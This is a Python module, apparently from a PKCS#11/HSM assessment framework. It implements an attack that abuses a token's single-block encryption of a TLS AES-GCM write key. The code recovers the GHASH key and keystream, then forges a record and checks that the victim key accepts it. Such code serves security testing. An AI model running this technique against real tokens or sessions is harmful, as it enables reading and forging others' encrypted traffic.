"""A GCM key that encrypts single blocks of the caller's: E(0) is GHASH's key, E of counter blocks is keystream.

With those two, records are opened, and others forged, outside the module and without the key (NIST SP 800-38D §7, §8). Which
call gives E of a block is the technique's; that it does is seen on a key of our own.
"""

import os
from abc import abstractmethod
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import replace
from typing import Final

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.params import Gcm
from keyfence.model import Chain, Evaluation, Key, Oracle, Slice, Step, Stream
from keyfence.schedule import Mode, Side, Version

from .base import Attack, Bench, Inconclusive, Offer
from .ghash import counter_blocks, forge, record_parts
from .opening import record_of
from .recovery import GcmSubkeys, Recovery
from .targets import VICTIM
from .victim import Kind, Record, Victim

BLOCK: Final = 16
ZERO: Final = bytes(BLOCK)
KINDS: Final = frozenset({Kind.TLS12, Kind.TLS13, Kind.SEPARATED, Kind.BARE})
_FUNCTION: Final = "AES"
_FORGED: Final = b"a record that nobody sent"


def concerns(victim: Victim) -> bool:
    """Whether the victim's records are AES-GCM's, and there is one of the client's."""
    suite = victim.suite
    return suite.mode is Mode.GCM and suite.ckk == CKK.AES and record_of(victim, Side.CLIENT) is not None


class BlockOracleAttack(Attack):
    """E of the blocks that the client's record needs. Subclasses say which blocks one call can take, and make it."""

    key = "client write key"

    def __init__(self, victim: Victim, mechanism: int) -> None:
        self.victim = victim
        self.mechanism = mechanism

    @abstractmethod
    def groups(self, blocks: Sequence[bytes]) -> Sequence[bytes]:
        """E(0)'s block and the counter blocks, which follow one another, as strings of blocks that one call can take."""

    @abstractmethod
    def encrypted(self, bench: Bench, key: int, group: bytes) -> bytes:
        """E of every block of the group."""

    @property
    def requires(self) -> tuple[int, ...]:
        return (self.mechanism,)

    def probe(self, bench: Bench) -> Offer:
        groups = self._groups()
        if not bench.on_the_victim:
            self._rehearse(bench, groups)
        wanted = tuple(Slice(_stream(group), 0, len(group), Key.of(CKK.AES), "E of blocks") for group in groups)
        return Offer(wanted, (Oracle(self.name, VICTIM, _FUNCTION),))

    def _groups(self) -> Sequence[bytes]:
        number, _, ciphertext, _ = record_parts(self.victim, self._record)
        return self.groups([ZERO, *counter_blocks(number, len(ciphertext))])

    @property
    def _record(self) -> Record:
        record = record_of(self.victim, Side.CLIENT)
        assert record is not None, "see concerns()"
        return record

    def _rehearse(self, bench: Bench, groups: Sequence[bytes]) -> None:
        """The same calls under a key of our own, with the uses that a record key has. No known key: the record will tell."""
        value = os.urandom(self.victim.suite.cipher.key)
        try:
            own = bench.import_key(CKK.AES, value, sensitive=True, extractable=False, encrypt=True, decrypt=True)
        except CryptokiError:
            return
        encryptor = Cipher(algorithms.AES(value), modes.ECB()).encryptor()  # noqa: S305 - what the answers are compared with
        if any(self.encrypted(bench, own, group) != encryptor.update(group) for group in groups):
            raise Inconclusive("the answer is not the encryption of the block under the key")

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        key, answers = self.victim.handles.write_keys[Side.CLIENT], dict[bytes, bytes]()
        for step in chain.steps:
            group = _group(step)
            answer = self.encrypted(bench, key, group)
            if len(answer) != len(group):
                raise Inconclusive(f"{len(answer)} bytes came back for {len(group)}")
            answers |= {group[at : at + BLOCK]: answer[at : at + BLOCK] for at in range(0, len(group), BLOCK)}
        subkeys = GcmSubkeys(Side.CLIENT, answers.pop(ZERO), answers)
        return replace(subkeys, forged=self._accepts_forgery(bench, key, subkeys))

    def _accepts_forgery(self, bench: Bench, key: int, subkeys: GcmSubkeys) -> bool:
        """Whether the victim's own key opens a record that was made outside, in the recorded one's place."""
        number, additional, ciphertext, _ = record_parts(self.victim, self._record)
        text = _FORGED.ljust(len(ciphertext))[: len(ciphertext)]
        if self.victim.version is Version.TLS13:
            text = text[:-1] + bytes([self._record.content_type])  # TLSInnerPlaintext ends in the type (RFC 8446 §5.2)
        mechanism = Mechanism(CKM.AES_GCM, Gcm(number, additional, 8 * BLOCK, bench.gcm_layout))
        with suppress(CryptokiError):
            return bench.session.decrypt(mechanism, key, forge(subkeys, number, additional, text)) == text
        return False

    def steps(self, chain: Chain) -> tuple[str, ...]:
        return tuple(self._line(_group(step)) for step in chain.steps)

    def _line(self, group: bytes) -> str:
        places = [_name(group[at : at + BLOCK]) for at in range(0, len(group), BLOCK)]
        told = places[0] if len(places) == 1 else f"{places[0]}, ... {places[-1]}"
        return f"{self.call} -> {told}"

    @property
    def call(self) -> str:
        """The call, for a reader."""
        return f"C_Encrypt({self.name}, the client write key)"


def _stream(group: bytes) -> Stream:
    return Stream(VICTIM, _FUNCTION, group)


def _group(step: Step) -> bytes:
    choice = step.call.choice if step.call else None
    assert isinstance(choice, Evaluation), "a step of a plan of evaluations"
    return choice.stream.input


def _name(block: bytes) -> str:
    return "E(0), the GHASH key" if block == ZERO else f"E(nonce | {int.from_bytes(block[12:], 'big')})"
